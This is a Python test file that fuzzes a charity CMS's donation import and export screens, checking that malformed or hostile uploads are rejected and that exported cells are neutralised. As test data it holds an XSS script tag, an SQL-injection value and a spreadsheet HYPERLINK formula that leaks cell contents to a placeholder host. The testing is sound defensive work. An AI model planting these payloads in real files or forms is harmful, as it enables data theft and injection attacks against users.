"""The offline-gift import screen under malformed files: never a 500; nothing imported unless every
row is valid; every surely bad row reported by its line; what is imported is stored exactly and
shown escaped; the export neutralises cells a spreadsheet would run as formulas."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from charity import services
from charity.models import Donation, DonationChannel, LedgerEntry, Role
from cms.workspaces import organization_workspace_sync
from tests.cms.conftest import Site
from tests.factories import ProjectFactory

from .strategies import FORMULAS, assert_no_raw_markup, count_case, fuzz_heavy, hostile_text

pytestmark = pytest.mark.django_db

HEADER = ["date received", "amount", "currency", "channel", "bank reference", "donor name"]
HEADER += ["donor email", "anonymous", "project", "message"]

GOOD = {
    "date received": st.sampled_from(
        ["2025-03-01", "2025/03/02", "2025年3月4日", "2025-03-03 14:30"]
    ),
    "amount": st.sampled_from(["200", "200.50", "1,200.05", "¥88", "0.01"]),
    "currency": st.sampled_from(["", "CNY", "cny", "人民币"]),
    "channel": st.sampled_from(["bank_transfer", "银行转账", "cash", "现金"]),
}
BAD = {
    "date received": st.sampled_from(["later", "2025-13-45", "", "=NOW()", "0000-00-00"]),
    "amount": st.sampled_from(["0", "-5", "abc", "1e309", "NaN", "", "1,00", "2" * 30, "0.001"]),
    "currency": st.sampled_from(["XXX", "BTC", "<script>alert(1)</script>", "💰"]),
    "channel": st.sampled_from(["online", "bitcoin", "", "' OR 1=1 --"]),
}


@st.composite
def row(draw):
    """(cells, surely_bad): good money fields or one of them bad; hostile free text always."""
    cells = {column: draw(strategy) for column, strategy in GOOD.items()}
    bad_column = draw(st.one_of(st.none(), st.sampled_from(sorted(BAD))))
    if bad_column:
        cells[bad_column] = draw(BAD[bad_column])
    cells["bank reference"] = ""
    cells["donor name"] = draw(st.one_of(hostile_text(max_size=120), st.sampled_from(FORMULAS)))
    cells["donor email"] = draw(st.sampled_from(["", "a@example.org", "not-an-email", "<b>@x"]))
    cells["anonymous"] = draw(st.sampled_from(["", "yes", "否", "maybe"]))
    cells["project"] = ""
    cells["message"] = draw(hostile_text(max_size=320))
    bad = bad_column is not None or cells["anonymous"] == "maybe"
    bad = bad or cells["donor email"] in ("not-an-email", "<b>@x")
    return [cells[column] for column in HEADER], bad


def csv_file(rows, encoding):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def record_lines(rows, fmt) -> list[int]:
    """The line each row starts on, as a person counts them in the file: in a CSV a quoted cell
    may span lines (a line ends at \\n, \\r or \\r\\n), in a workbook a row is a line."""
    if fmt == "xlsx":
        return list(range(2, len(rows) + 2))
    lines, line = [], 2
    for cells in rows:
        out = io.StringIO()
        csv.writer(out).writerow(cells)
        lines.append(line)
        line += sum(1 for _ in io.StringIO(out.getvalue(), newline=""))
    return lines


def xlsx_file(rows):
    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for cells in rows:
        # openpyxl cannot write control characters; a spreadsheet program cannot either.
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in cells])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture
def finance(organization, member_of):
    Site(organization)
    user = member_of(organization, Role.FINANCE)
    organization_workspace_sync(organization=organization)
    return user


def post_file(client, organization, name, content):
    return client.post(
        "/cms-admin/donations/import/",
        {"organization": organization.pk, "file": SimpleUploadedFile(name, content)},
    )


@given(
    rows=st.lists(row(), min_size=1, max_size=6),
    fmt=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "xlsx"]),
)
@fuzz_heavy
def test_a_file_is_imported_whole_or_not_at_all(organization, finance, rows, fmt):
    count_case()
    cells = [cells for cells, _bad in rows]
    if fmt == "xlsx":
        name, content = "gifts.xlsx", xlsx_file(cells)
        # What the workbook really holds (control characters dropped; "=…" is a formula).
        cells = [[ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row] for row in cells]
    else:
        name, content = "gifts.csv", csv_file(cells, fmt)
    client = Client()
    client.force_login(finance)
    before = Donation.objects.count(), LedgerEntry.objects.count()

    response = post_file(client, organization, name, content)

    assert response.status_code == 200
    assert (Donation.objects.count(), LedgerEntry.objects.count()) == before
    html = response.content.decode()
    for row_cells in cells:
        for cell in row_cells:
            assert_no_raw_markup(html, cell)
    check = response.context["check"]
    data_lines = set(record_lines(cells, fmt))
    assert {error.line for error in check.errors} <= data_lines | {1}
    surely_bad = {line for line, (_c, bad) in zip(sorted(data_lines), rows, strict=True) if bad}
    if surely_bad:
        assert response.context["token"] is None
        assert surely_bad <= {error.line for error in check.errors}
    token = response.context["token"]
    if token is None:
        assert check.errors
        return

    assert not check.errors
    response = client.post("/cms-admin/donations/import/confirm/", {"token": token})
    assert response.status_code == 302
    imported = list(Donation.objects.order_by("-pk")[: len(cells)])[::-1]
    assert Donation.objects.count() == before[0] + len(cells)
    for donation, row_cells in zip(imported, cells, strict=True):
        name_cell = row_cells[HEADER.index("donor name")]
        if fmt == "xlsx" and name_cell.startswith("="):
            continue  # a formula: the workbook holds no value for it
        assert donation.donor_name == name_cell.strip()
        assert donation.message == row_cells[HEADER.index("message")].strip()
        assert "\x00" not in donation.donor_name + donation.message


@given(
    content=st.one_of(
        st.binary(max_size=2000),
        st.just(b""),
        st.just(b"\xef\xbb\xbf"),
        st.just(b"PK\x03\x04" + b"\x00" * 100),
        st.just(",,,\n,,,\n"),
        st.lists(st.text(max_size=30), max_size=8).map(lambda cells: ",".join(cells).encode()),
        st.just(b'"unterminated,quote\n1,2'),
    ).map(lambda c: c if isinstance(c, bytes) else c.encode()),
    name=st.sampled_from(["gifts.csv", "gifts.xlsx", "gifts.xls", "gifts.exe", "../gifts.csv"]),
)
@fuzz_heavy
def test_random_bytes_are_refused_with_a_message(organization, finance, content, name):
    count_case()
    client = Client()
    client.force_login(finance)
    before = Donation.objects.count()
    response = post_file(client, organization, name, content)
    assert response.status_code == 200
    assert Donation.objects.count() == before
    # Either the form reports the file, or the check lists what is wrong with it.
    form = response.context.get("form")
    check = response.context.get("check")
    assert (form is not None and form.errors) or (check is not None and check.errors)


def _formula_cells(cells):
    return [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@given(name=st.one_of(st.sampled_from(FORMULAS), hostile_text(max_size=90)))
@fuzz_heavy
def test_exports_never_hand_a_spreadsheet_a_formula(organization, finance, name):
    """Whatever a donor or an organization wrote, no exported text cell starts a formula; the
    text is all there behind the apostrophe that neutralises it."""
    count_case()
    project = ProjectFactory(organization=organization, title=name.replace("\x00", "")[:90] or "p")
    donation = services.donation_record_offline(
        actor=finance,
        organization=organization,
        project=project,
        amount=20_000,
        currency="CNY",
        channel=DonationChannel.CASH,
        received_at=timezone.now(),
        donor_name=name.replace("\x00", "")[:100].strip(),
    )
    client = Client()
    client.force_login(finance)
    base = f"/cms-admin/donations/export/?organization={organization.pk}&format="
    rows = list(csv.reader(io.StringIO(client.get(base + "csv").content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(client.get(base + "xlsx").content)).active
    xlsx_rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    in_workbook = ILLEGAL_CHARACTERS_RE.sub("\ufffd", donation.donor_name)
    for table, stored in ((rows, donation.donor_name), (xlsx_rows, in_workbook)):
        assert not _formula_cells(cell for row in table for cell in row)
        header = table[0]
        exported = next(r for r in table[1:] if str(r[0]) == str(donation.pk))
        shown = exported[header.index("donor name")] or ""
        assert shown in (stored, "'" + stored)

    open_data = Client().get("/open-data/projects.csv")
    projects = list(csv.reader(io.StringIO(b"".join(open_data.streaming_content).decode())))
    assert not _formula_cells(cell for row in projects for cell in row)


def test_regression_a_formula_donor_name_is_exported_as_text(organization, finance):
    services.donation_record_offline(
        actor=finance,
        organization=organization,
        project=None,
        amount=100,
        currency="CNY",
        channel=DonationChannel.CASH,
        received_at=timezone.now(),
        donor_name='=HYPERLINK("http://x.example/?"&A1,"click")',
    )
    client = Client()
    client.force_login(finance)
    url = f"/cms-admin/donations/export/?organization={organization.pk}&format=csv"
    body = client.get(url).content.decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"' in body


def test_regression_a_control_character_in_a_name_no_longer_breaks_the_xlsx_export(
    organization, finance
):
    services.donation_record_offline(
        actor=finance,
        organization=organization,
        project=None,
        amount=100,
        currency="CNY",
        channel=DonationChannel.CASH,
        received_at=timezone.now(),
        donor_name="李\x1b华",  # an escape typed into the form: openpyxl refused the workbook
    )
    client = Client()
    client.force_login(finance)
    url = f"/cms-admin/donations/export/?organization={organization.pk}&format=xlsx"
    response = client.get(url)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert "李\ufffd华" in [cell.value for row in sheet.iter_rows() for cell in row]


def test_a_file_over_the_limit_is_refused_before_it_is_read(organization, finance):
    client = Client()
    client.force_login(finance)
    content = b"date received,amount,channel\n" + b"2025-03-01,1,cash\n" * 600_000
    assert len(content) > 10 * 1024 * 1024
    response = post_file(client, organization, "gifts.csv", content)
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert not Donation.objects.exists()


def test_regression_a_nul_character_in_a_cell_is_a_row_error(organization, finance):
    """SQLite stored it; PostgreSQL refuses a NUL in text, so the confirmation was a 500."""
    client = Client()
    client.force_login(finance)
    content = "date received,amount,channel,donor name,bank reference\n"
    content += "2025-03-01,10,cash,ok,\n2025-03-01,10,cash,李\x00华,\n2025-03-02,10,cash,x,R\x00\n"
    response = post_file(client, organization, "gifts.csv", content.encode())
    errors = [(error.line, error.column) for error in response.context["check"].errors]
    assert errors == [(3, "donor name"), (4, "bank reference")]
    assert response.context["token"] is None
